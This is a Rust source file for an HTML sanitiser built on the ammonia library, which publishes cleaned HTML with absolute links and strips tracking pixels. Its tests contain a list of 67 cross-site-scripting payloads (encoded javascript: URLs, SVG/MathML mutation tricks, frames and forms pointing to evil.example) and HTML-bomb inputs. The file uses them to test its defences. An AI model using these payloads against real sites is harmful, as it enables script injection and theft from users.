//! HTML that may be published: ammonia with our lists, every address absolute, the result bounded.

use std::borrow::Cow;
use std::collections::HashSet;

use ammonia::{Builder, UrlRelative};
use url::Url;

use super::scan::{Scanner, Tag, Token};
use super::{allow, cost, text};

/// HTML that is cleaned, in bytes; the rest of a longer one is left out.
pub const MAX_HTML_BYTES: usize = 1_000_000;
/// Cleaned HTML, in bytes. Escaping and absolute links make it longer than what came in.
pub const MAX_CLEAN_BYTES: usize = 4_000_000;

/// The part of `html` that may be published, links absolute against `base`; what cannot be made absolute loses its link. Pictures
/// without an address and those of one pixel, which only count readers, go. HTML whose tree would be out of
/// proportion is published as its text.
#[must_use]
pub fn clean(html: &str, base: Option<&Url>) -> String {
    let html = cut(html, MAX_HTML_BYTES);
    let html: Cow<'_, str> =
        if html.contains(forbidden) { html.replace(forbidden, "").into() } else { Cow::Borrowed(html) };
    if !html.contains(['<', '&', '>']) {
        return html.trim().to_owned();
    }
    if !cost::is_bounded(&html) {
        return paragraphs(&html);
    }
    let cleaned = builder(base.cloned()).clean(&html).to_string();
    let mut kept = without_pixels(&cleaned);
    // A reference may stand for a character that is forbidden as such.
    if kept.contains(forbidden) {
        kept = kept.replace(forbidden, "");
    }
    if kept.len() > MAX_CLEAN_BYTES { paragraphs(&html) } else { kept }
}

/// What XML 1.0 section 2.2 forbids.
fn forbidden(c: char) -> bool {
    matches!(c, '\0'..='\u{8}' | '\u{B}' | '\u{C}' | '\u{E}'..='\u{1F}' | '\u{FFFE}' | '\u{FFFF}')
}

fn cut(text: &str, max: usize) -> &str {
    let end = (0..=max.min(text.len())).rev().find(|end| text.is_char_boundary(*end)).unwrap_or(0);
    text.get(..end).unwrap_or_default()
}

fn builder(base: Option<Url>) -> Builder<'static> {
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(allow::TAGS))
        .clean_content_tags(HashSet::from(allow::CONTENT_GOES))
        .generic_attributes(HashSet::from(allow::ANYWHERE))
        .tag_attributes(allow::ATTRIBUTES.iter().map(|(tag, list)| (*tag, list.iter().copied().collect())).collect())
        // One attribute each: ammonia keeps them in a hash map, and what is published must be the same bytes each time.
        .set_tag_attribute_value("audio", "controls", "")
        .set_tag_attribute_value("video", "controls", "")
        .url_schemes(HashSet::from(allow::LINKS))
        // Relative ones come as far as the filter, which makes them absolute or drops them.
        .url_relative(UrlRelative::PassThrough)
        .link_rel(Some("noopener noreferrer nofollow"))
        .strip_comments(true)
        .attribute_filter(move |tag, name, value| attribute(tag, name, value, base.as_ref()));
    builder
}

/// The value that an allowed attribute is given, or none to drop it.
fn attribute<'v>(tag: &str, name: &str, value: &'v str, base: Option<&Url>) -> Option<Cow<'v, str>> {
    match (tag, name) {
        (_, "href" | "cite") => absolute(value, base, &allow::LINKS),
        (_, "src" | "poster") => absolute(value, base, &allow::LOADS),
        (_, "width" | "height" | "colspan" | "rowspan" | "span") => number(value, 4),
        ("ol", "start") | ("li", "value") => number(value, 9),
        _ => Some(Cow::Borrowed(value)),
    }
}

fn absolute<'v>(value: &str, base: Option<&Url>, schemes: &[&str]) -> Option<Cow<'v, str>> {
    let url = match Url::parse(value) {
        Ok(url) => url,
        Err(url::ParseError::RelativeUrlWithoutBase) => base?.join(value).ok()?,
        Err(_) => return None,
    };
    schemes.contains(&url.scheme()).then(|| Cow::Owned(String::from(url)))
}

/// A number of few digits; anything else in its place could be a length in another unit.
fn number(value: &str, digits: usize) -> Option<Cow<'_, str>> {
    let value = value.trim();
    let value = value.strip_suffix("px").unwrap_or(value);
    let fits = (1..=digits).contains(&value.len()) && value.bytes().all(|byte| byte.is_ascii_digit());
    fits.then_some(Cow::Borrowed(value))
}

/// Clean HTML without the pictures that show nothing. ammonia drops attributes, but no element for its attributes. Goes tag
/// by tag: a `<img` may stand in an attribute.
fn without_pixels(html: &str) -> String {
    if !html.contains("<img") {
        return html.to_owned();
    }
    let mut kept = String::with_capacity(html.len());
    let mut scanner = Scanner::new(html);
    let mut from = 0;
    while let Some(token) = scanner.next() {
        let to = html.len() - scanner.left();
        let hides = matches!(token, Token::Open(tag) if tag.name == "img" && !shows_something(&tag));
        if !hides {
            kept.push_str(html.get(from..to).unwrap_or_default());
        }
        from = to;
    }
    kept
}

/// A picture has an address, and is not said to be a pixel wide or high.
fn shows_something(tag: &Tag<'_>) -> bool {
    let tiny = |name| tag.attribute(name).is_some_and(|size| matches!(size, "0" | "1"));
    tag.attribute("src").is_some_and(|src| !src.is_empty()) && !tiny("width") && !tiny("height")
}

/// The text of HTML as paragraphs.
fn paragraphs(html: &str) -> String {
    let mut made = String::new();
    for block in text::text(html).lines() {
        if made.len() + block.len() > MAX_CLEAN_BYTES / 8 {
            break;
        }
        made.push_str("<p>");
        for c in block.chars().filter(|c| !forbidden(*c)) {
            match c {
                '&' => made.push_str("&amp;"),
                '<' => made.push_str("&lt;"),
                '>' => made.push_str("&gt;"),
                c => made.push(c),
            }
        }
        made.push_str("</p>");
    }
    made
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean_at(html: &str) -> String {
        clean(html, Some(&Url::parse("https://example.org/a/b").unwrap()))
    }

    /// What no published HTML may have, looked for in its tags and not in its text.
    fn dangers(clean: &str) -> Vec<String> {
        let mut found = Vec::new();
        for token in Scanner::new(clean) {
            let Token::Open(tag) = token else { continue };
            if !allow::TAGS.contains(&tag.name) {
                found.push(format!("<{}>", tag.name));
            }
            for (name, value) in tag.attributes() {
                let address = matches!(name, "href" | "src" | "cite" | "poster");
                let harmless = ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme));
                let known = ["title", "lang", "dir", "alt", "rel", "width", "height", "controls", "preload", "type"];
                if address && !harmless || !address && !known.contains(&name) {
                    found.push(format!("{name}={value}"));
                }
            }
        }
        found
    }

    const ATTACKS: [&str; 67] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/xss>alert(1)</script>",
        "<script\n>alert(1)</script\t>",
        "<<script>alert(1)//<</script>",
        "<script>alert(1)",
        "<img src=x onerror=alert(1)>",
        "<img src=https://e.example/x.png onerror=alert(1)>",
        "<img/src=https://e.example/x.png/onerror=alert(1)>",
        "<img src='https://e.example/x.png'onerror='alert(1)'>",
        "<IMG SRC=\"javascript:alert('x')\">",
        "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
        "<img src=`javascript:alert(1)`>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=JaVaScRiPt:alert(1)>x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">x</a>",
        "<a href=\"javascript&#0000058alert(1)\">x</a>",
        "<a href=\"\u{1}javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<a href=//evil.example onclick=alert(1)>x</a>",
        "<a href=\"https://e.example\" onmouseover\n=\nalert(1)>x</a>",
        "<a href=blob:https://e.example/1>x</a>",
        "<a href=file:///etc/passwd>x</a>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=https://evil.example></object>",
        "<embed src=https://evil.example>",
        "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
        "<style>*{background:url(javascript:alert(1))}</style>",
        "<p style=\"background:url('javascript:alert(1)')\">x</p>",
        "<div style=\"position:fixed;top:0;left:0;width:100%\">x</div>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base href=https://evil.example/>",
        "<template><script>alert(1)</script></template>",
        "<body onload=alert(1)>",
        "<video src=https://e.example/v.mp4 onerror=alert(1) autoplay poster=javascript:alert(1)></video>",
        "<audio src=javascript:alert(1) onplay=alert(1)></audio>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
        "<a title='<img src=x onerror=alert(1) width=1 x=' href='https://e.example/'>x</a>",
        "<img src=https://e.example/x.png title='\"><script>alert(1)</script>'>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href=javascript:alert(1)?>x",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<plaintext><script>alert(1)</script>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<p id=location class=x name=cookie>x</p>",
    ];

    #[test]
    fn no_spelling_of_a_script_survives() {
        for attack in ATTACKS {
            let html = clean_at(attack);
            assert_eq!(dangers(&html), Vec::<String>::new(), "{attack} became {html}");
            assert_eq!(clean_at(&html), html, "{attack} is not stable");
        }
    }

    #[test]
    fn links_are_absolute_or_gone() {
        let cases = [
            ("<a href='../x?a=1&amp;b=2'>t</a>", "href=\"https://example.org/x?a=1&amp;b=2\""),
            ("<a href='mailto:a@example.org'>t</a>", "href=\"mailto:a@example.org\""),
            ("<img src='i.png' alt='A'>", "src=\"https://example.org/a/i.png\""),
            ("<img src='//cdn.example/i.png'>", "src=\"https://cdn.example/i.png\""),
            ("<blockquote cite='/q'>t</blockquote>", "cite=\"https://example.org/q\""),
        ];
        for (html, expected) in cases {
            assert!(clean_at(html).contains(expected), "{html} became {}", clean_at(html));
        }
        assert_eq!(clean("<a href='x'>t</a>", None), "<a rel=\"noopener noreferrer nofollow\">t</a>");
        assert_eq!(clean("<p><img src='x'>t</p>", None), "<p>t</p>");
        assert_eq!(clean_at("<img src='mailto:a@example.org'>"), "");
    }

    #[test]
    fn every_link_says_that_it_is_not_followed_for_us() {
        assert_eq!(
            clean_at("<a href='https://e.example/' rel='me' target=_blank>t</a>"),
            "<a href=\"https://e.example/\" rel=\"noopener noreferrer nofollow\">t</a>"
        );
    }

    #[test]
    fn pictures_that_only_count_readers_go() {
        for pixel in [
            "<img src='https://e.example/p' width=1 height=1>",
            "<img src='https://e.example/p' width='1px' height='1px' alt=''>",
            "<img height=\"0\" src='https://e.example/p'/>",
        ] {
            assert_eq!(clean_at(&format!("<p>t</p>{pixel}")), "<p>t</p>");
        }
        assert!(clean_at("<img src='https://e.example/p' width=11 height=100%>").contains("width=\"11\""));
    }

    #[test]
    fn the_same_html_always_becomes_the_same_bytes() {
        let html = "<video src='v.mp4' width=3 height=2 poster=p.png title=t lang=en dir=ltr>x</video><a href=x hreflang=en title=t>y</a>";
        let first = clean_at(html);
        assert!(first.contains("controls"), "{first}");
        for _ in 0..50 {
            assert_eq!(clean_at(html), first);
        }
    }

    #[test]
    fn ordinary_markup_stays_as_it_is() {
        let html = "<h2>T</h2><p>a <b>b</b> &amp; <i>c</i> &lt; d<br>e</p><ul><li>f</li></ul><pre><code>g</code></pre>";
        assert_eq!(clean_at(html), html);
        assert_eq!(clean_at("plain"), "plain");
        assert_eq!(clean_at("<p><b>a<i>b</b>c</i>"), "<p><b>a<i>b</i></b><i>c</i></p>");
    }

    #[test]
    fn only_characters_of_xml_are_left() {
        let html = clean_at("<p title='a&#1;b\u{FFFE}'>\u{0}x&#x1F;y&#0;z\u{B}</p>&#xFFFF;");
        assert!(!html.contains(forbidden), "{html:?}");
        assert!(html.contains('x') && html.contains('y'));
    }

    #[test]
    fn html_that_explodes_is_published_as_its_text() {
        let many = |piece: &str, count: usize| piece.repeat(count);
        let fonts: String = (0..300).map(|n| format!("<font size={n}>")).collect();
        let attributes: String = (0..60_000).map(|n| format!(" a{n}=1")).collect();
        let bombs = [
            many("<div>", 200_000),
            format!("{}x", many("<p><b>", 100_000)),
            format!("{fonts}{}", many("<p>x", 100_000)),
            format!("<p{attributes}>x</p>"),
            many("<table><tr><td>", 20_000),
            many("<b><object></b></object>", 30_000),
            many("<svg>", 100_000),
            format!("<svg><style>{}</style></svg>", many("<g><b>", 50_000)),
            many("<a href=x><div>", 50_000),
            many("</p>", 200_000),
            many("<!--", 200_000),
            many("<", 500_000),
            many("&#60;", 190_000),
        ];
        for bomb in bombs {
            let html = clean_at(&bomb);
            assert!(html.len() <= MAX_CLEAN_BYTES);
            assert_eq!(dangers(&html), Vec::<String>::new());
        }
        let sloppy = format!("<p>start{}<b>end", many("<p><i>x", 20));
        assert!(clean_at(&sloppy).contains("<i>"), "a few unclosed elements are no bomb");
    }

    proptest::proptest! {
        #[test]
        fn random_html_becomes_harmless_and_stays_so(html in pieces()) {
            let once = clean_at(&html);
            proptest::prop_assert_eq!(dangers(&once), Vec::<String>::new());
            proptest::prop_assert!(!once.contains(forbidden));
            proptest::prop_assert_eq!(dangers(&clean_at(&once)), Vec::<String>::new());
        }
    }

    fn pieces() -> impl proptest::strategy::Strategy<Value = String> {
        let piece = proptest::sample::select(vec![
            "<",
            ">",
            "/",
            "\"",
            "'",
            "=",
            "&",
            ";",
            " ",
            "a",
            "<p>",
            "</p>",
            "<b>",
            "</b>",
            "<svg>",
            "</svg>",
            "<math>",
            "<style>",
            "</style>",
            "<title>",
            "</title>",
            "<table>",
            "<td>",
            "<a href=",
            "javascript:",
            "x.html",
            "<img src=",
            " onerror=",
            "<!--",
            "-->",
            "--!>",
            "<![CDATA[",
            "]]>",
            "&#x3c;",
            "&lt;",
            "<mtext>",
            "<mglyph>",
            "<select>",
            "<noscript>",
            "</noscript>",
            "<template>",
            "</template>",
            "<textarea>",
            "<xmp>",
            "</xmp>",
            "<script>",
            "</script>",
            "<foreignObject>",
            "<desc>",
            "<form>",
            "<br/>",
            "\u{0}",
            "\u{FFFE}",
        ]);
        use proptest::strategy::Strategy;
        proptest::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
    }
}
